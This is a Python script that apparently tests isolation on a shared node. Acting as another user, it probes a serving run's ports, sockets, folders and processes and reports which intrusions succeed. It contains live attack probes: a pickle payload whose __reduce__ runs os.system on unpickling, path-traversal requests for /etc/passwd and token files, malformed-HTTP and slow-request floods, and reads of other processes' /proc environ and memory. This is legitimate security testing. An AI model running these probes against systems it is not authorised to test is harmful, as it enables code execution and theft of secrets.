"""Another user of a node, who tries to reach, read and change a run. Standard library only.

    python -S stranger.py <what.json        run as that user, in the network of the node

Reads {"ports": [[host, port]], "sockets": [path], "folders": [path], "processes": [id]} and prints {"achieved": [text],
"texts": {name: text}}: what must not have succeeded, and what all users may read, in which no secret may stand.
"""

import contextlib
import json
import os
import pickle
import random
import socket
import struct
import sys
import time
from concurrent.futures import ThreadPoolExecutor

WAIT_S = 1.0
AT_ONCE = 32
TOKENS = (None, "", "0" * 64, "Bearer", "null", "x" * 70_000)
PATHS = (
    *("/", "/health", "/healthz", "/metrics", "/openapi.json", "/docs", "/v1/models", "/state", "/sessions"),
    *("/generate", "/prefill", "/receive", "/swap", "/sleep", "/wake", "/leave", "/stop", "/weights", "/score"),
    *("/v1/chat/completions", "/v1/completions", "/v1/responses", "/v1/messages", "/init", "/run", "/collective_rpc"),
    *("/../../etc/passwd", "/%2e%2e/%2e%2e/token", "/static/..%2ftoken"),
)
HARMLESS = {"/health", "/healthz"}
"""Paths whose answer says that somebody listens, and nothing else."""
STORE_HELLO = struct.pack("<BI", 0, 0x3C85F7CE)
"""Beginning of a conversation with torch's TCPStore."""


class Bomb:
    """Creates a file when it is unpickled."""

    def __init__(self, file):
        self.file = file

    def __reduce__(self):
        return os.system, (f"touch {self.file}",)


def connected(address):
    family = socket.AF_UNIX if isinstance(address, str) else socket.AF_INET
    here = socket.socket(family)
    here.settimeout(WAIT_S)
    try:
        here.connect(address.replace("@", "\0", 1) if isinstance(address, str) else tuple(address))
    except OSError:
        here.close()
        return None
    return here


def answer(address, *pieces, pause=0.0):
    """Send pieces and return what comes back within WAIT_S; None if no connection was made."""
    here = connected(address)
    if here is None:
        return None
    got = b""
    with here, contextlib.suppress(OSError):
        for piece in pieces:
            here.sendall(piece)
            time.sleep(pause)
        while len(got) < 100_000 and (data := here.recv(65536)):
            got += data
    return got


def noises(chance):
    """Yield pieces of bytes that no protocol knows, or only the beginning of."""
    yield "garbage", [chance.randbytes(4096)], 0.0
    yield "zeros", [bytes(100_000)], 0.0
    yield "half a request", [b"POST /generate HTTP/1.1\r\nHost: x\r\nContent-Length: 100\r\n\r\n{"], 0.5
    yield "huge headers", [b"GET / HTTP/1.1\r\n" + b"X-Long: " + b"x" * 2_000_000 + b"\r\n\r\n"], 0.0
    yield (
        "a body without end",
        [b"POST / HTTP/1.1\r\nTransfer-Encoding: chunked\r\n\r\n", *[b"ffff\r\n" + b"x" * 65535] * 9],
        0.0,
    )
    yield "slow bytes", [bytes([byte]) for byte in b"GET / HT"], 0.1
    yield "the largest number", [b"\xff" * 64], 0.0
    yield "nothing", [], 0.0


def try_port(address, chance, marker, achieved):
    for name, pieces, pause in noises(chance):
        got = answer(address, *pieces, pause=pause)
        if got and not is_refusal(got):
            achieved.append(f"{address}: {name} was answered: {got[:80]!r}")
    for protocol in (0, 2, pickle.HIGHEST_PROTOCOL):
        bomb = pickle.dumps(Bomb(marker), protocol)
        answer(address, struct.pack("!Q", len(bomb)) + bomb)
        answer(address, bomb)
    got = answer(address, STORE_HELLO + struct.pack("<B", 7))  # the number of keys
    if got and not got.startswith(b"HTTP/"):
        achieved.append(f"{address}: torch's store answers: {got[:16]!r}")
    speaks_http = (answer(address, b"GET /nothing HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n") or b"").startswith(
        b"HTTP/"
    )
    for path in PATHS if speaks_http else ():
        for token in TOKENS:
            for method in ("GET", "POST"):
                header = "" if token is None else f"Authorization: Bearer {token}\r\nX-API-Key: {token}\r\n"
                text = (
                    f"{method} {path} HTTP/1.1\r\nHost: x\r\n{header}Content-Length: 2\r\nConnection: close\r\n\r\n{{}}"
                )
                got = answer(address, text.encode()) or b""
                if got.startswith(b"HTTP/") and got.split()[1][:1] in b"123" and path not in HARMLESS:
                    achieved.append(f"{address}: {method} {path} with token {str(token)[:9]}: {got[:80]!r}")


def is_refusal(got):
    """Whether an answer is an error of HTTP."""
    return got.startswith(b"HTTP/") and got.split()[1][:1] in b"45"


def try_folder(folder, achieved):
    """Read and change a folder that belongs to the run."""
    for name, act in {
        "listed": lambda: os.listdir(folder),
        "written": lambda: open(os.path.join(folder, "planted"), "w").close(),
        "opened": lambda: open(os.path.join(folder, "token")).close(),
        "changed": lambda: os.chmod(folder, 0o777),
        "moved": lambda: os.rename(folder, folder + ".moved"),
        "replaced": lambda: os.symlink("/etc", os.path.join(folder, "linked")),
    }.items():
        with contextlib.suppress(OSError):
            act()
            achieved.append(f"{folder} was {name}")


def try_file(file, achieved):
    """Open a file or shared memory of the run's user."""
    for name, flags in {"read": os.O_RDONLY, "opened for writing": os.O_WRONLY}.items():
        with contextlib.suppress(OSError):
            os.close(os.open(file, flags | os.O_NONBLOCK))
            achieved.append(f"{file} was {name}")


def try_process(number, achieved, texts):
    for name in ("environ", "maps", "mem", "fd", "cwd", "root", "stack", "io", "auxv"):
        path = f"/proc/{number}/{name}"
        with contextlib.suppress(OSError):
            if name in ("fd", "cwd", "root"):
                os.listdir(path)
            else:
                with open(path, "rb") as file:
                    if not file.read(1):  # of a process that has ended, anybody may open the empty maps
                        continue
            achieved.append(f"{path} was read")
    for name in ("cmdline", "comm", "status"):
        with contextlib.suppress(OSError), open(f"/proc/{number}/{name}", "rb") as file:
            texts[f"/proc/{number}/{name}"] = file.read().decode("utf-8", "replace")
    with contextlib.suppress(OSError):
        os.kill(number, 0)
        achieved.append(f"process {number} can be signalled")


def main():
    given = json.load(sys.stdin)
    chance = random.Random(given["seed"])
    achieved, texts, marker = [], {}, given["marker"]
    with ThreadPoolExecutor(AT_ONCE) as pool:
        tries = [
            pool.submit(try_port, address, random.Random(chance.random()), marker, achieved)
            for address in [*given["ports"], *given["sockets"]]
        ]
    for each in tries:
        each.result()
    for folder in given["folders"]:
        try_folder(folder, achieved)
    for file in given["files"]:
        try_file(file, achieved)
    for number in given["processes"]:
        try_process(number, achieved, texts)
    print(json.dumps({"achieved": achieved, "texts": texts}))


if __name__ == "__main__":
    main()
